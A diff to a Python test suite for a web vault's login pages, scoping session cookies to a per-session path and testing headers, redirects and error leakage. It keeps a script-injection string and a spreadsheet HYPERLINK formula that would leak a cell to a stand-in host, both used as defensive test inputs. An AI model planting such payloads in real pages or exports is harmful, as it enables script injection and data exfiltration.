@@ -16,7 +16,7 @@ from sarus_kernel.vault.ledger.ledger import Ledger
 from sarus_kernel.vault.ledger.receipts import Signer
 from sarus_kernel.vault.page.application import COOKIE, HEADERS, application
 from sarus_kernel.vault.page.facts import Desk
-from sarus_kernel.vault.page.login import MOST_FAILURES, Sessions
+from sarus_kernel.vault.page.login import MOST_FAILURES, Sessions, place_of
 from sarus_kernel.vault.page.sheets import safe
 from sarus_kernel.vault.refusals import Refused, note
 from sarus_kernel.wire.codec import encode
@@ -27,6 +27,7 @@ TOKEN = "the owner's token, which is long enough"
 HOSTILE = "<script>alert(1)</script>"
 FORMULA = '=HYPERLINK("http://x/?"&A1)'
 PATHS = ("/", "/releases", "/releases/1", "/refusals", "/data")
+OPEN = ("/login", "/style.css")
 SHEETS = ("/releases.csv", "/refusals.csv", "/grantees.csv")
 SECRET = 424242
 """A released value: it is on no page."""
@@ -83,8 +84,15 @@ def stranger(desk: Desk) -> TestClient:
 @pytest.fixture
 def owner(stranger: TestClient) -> TestClient:
     """A browser that has."""
-    assert stranger.post("/login", data={"token": TOKEN}).status_code == 303
-    return stranger
+    return inside(stranger)
+
+
+def inside(browser: TestClient) -> TestClient:
+    """The same browser, logged in, where its session's pages are."""
+    reply = browser.post("/login", data={"token": TOKEN})
+    assert reply.status_code == 303
+    browser.base_url = f"http://127.0.0.1{reply.headers['location']}"
+    return browser
 
 
 class Tags(HTMLParser):
@@ -107,7 +115,7 @@ def test_without_a_session_there_is_only_the_door(stranger: TestClient, path: st
     for cookie in (None, "x", TOKEN):
         if cookie is not None:
             stranger.cookies.set(COOKIE, cookie.replace(" ", ""))
-        reply = stranger.get(path)
+        reply = stranger.get(f"/{place_of(cookie or '')}{path}")
         assert (reply.status_code, reply.headers["location"]) == (303, "/login")
         assert reply.text == ""
 
@@ -130,13 +138,27 @@ def test_a_wrong_token_opens_nothing(stranger: TestClient) -> None:
 def test_the_cookie_is_for_this_site_s_requests_alone(stranger: TestClient) -> None:
     """No script reads it, no other site's page sends it; logging out ends it."""
     set_cookie = stranger.post("/login", data={"token": TOKEN}).headers["set-cookie"]
-    assert re.search(r"HttpOnly; .*Path=/; SameSite=strict", set_cookie)
+    assert re.search(r"HttpOnly; Path=/[0-9a-f]{32}; SameSite=strict$", set_cookie)
     assert TOKEN not in set_cookie
     secret = stranger.cookies[COOKIE]
+    stranger.base_url = f"http://127.0.0.1/{place_of(secret)}/"
     assert stranger.get("/").status_code == 200
     assert stranger.post("/logout").status_code == 303
     stranger.cookies.set(COOKIE, secret)
     assert stranger.get("/").status_code == 303
+
+
+def test_a_cookie_without_its_place_reads_nothing(stranger: TestClient) -> None:
+    """A program on another port, which browsers show cookies to, is never below that path; and
+    would not know where to go with what it has."""
+    inside(stranger)
+    secret, other = stranger.cookies[COOKIE], Sessions(TOKEN).open(TOKEN)
+    stranger.base_url = "http://127.0.0.1"
+    for path in ("/", "/releases", "/x/", f"/{secret}/", f"/{place_of(other or '')}/releases"):
+        reply = stranger.get(path, headers={"cookie": f"{COOKIE}={secret}"})
+        assert reply.status_code in (303, 307) and not reply.text
+    reply = stranger.get(f"/{place_of(secret)}/", headers={"cookie": f"{COOKIE}={secret}"})
+    assert reply.status_code == 200
 
 
 @pytest.mark.parametrize("path", PATHS)
@@ -152,10 +174,11 @@ def test_a_grantee_s_words_stay_words(owner: TestClient, path: str) -> None:
         assert "&lt;script&gt;alert(1)&lt;/script&gt;" in reply.text
 
 
-@pytest.mark.parametrize("path", [*PATHS, *SHEETS, "/login", "/style.css", "/releases/99"])
+@pytest.mark.parametrize("path", [*PATHS, *SHEETS, *OPEN, "/releases/99"])
 def test_every_reply_is_guarded_and_has_no_value(owner: TestClient, path: str) -> None:
     """Headers on each of them; no released value on any."""
-    reply = owner.get(path)
+    reply = owner.get(f"http://127.0.0.1{path}" if path in OPEN else path)
+    assert reply.status_code == (404 if path == "/releases/99" else 200)
     assert {name: reply.headers[name] for name in HEADERS} == HEADERS
     assert "script-src" not in HEADERS["Content-Security-Policy"]
     assert str(SECRET) not in reply.text
@@ -204,7 +227,10 @@ def test_a_spreadsheet_computes_nothing(owner: TestClient) -> None:
 def test_no_path_leads_outside(owner: TestClient, path: str) -> None:
     """Only the listed pages are there; the grantees' door is not among them."""
     reply = owner.get(path)
-    assert reply.status_code in (404, 405)
+    if reply.status_code == 307:  # out of this session's place: another's, and to the login
+        reply = owner.get(reply.headers["location"])
+        assert reply.status_code == 303 and reply.headers["location"] == "/login"
+    assert reply.status_code in (303, 404, 405)
     assert "PRIVATE KEY" not in reply.text and TOKEN not in reply.text
 
 
@@ -236,7 +262,7 @@ def test_a_bug_says_nothing_of_itself(
     stranger: TestClient, desk: Desk, caplog: pytest.LogCaptureFixture
 ) -> None:
     """What went wrong is in the vault's log, which only the owner reads."""
-    stranger.post("/login", data={"token": TOKEN})
+    inside(stranger)
     (desk.directory / "twin" / "twin.toml").write_text("words = [patient 17", "utf-8")
     reply = stranger.get("/")
     assert reply.status_code == 500 and "patient" not in reply.text
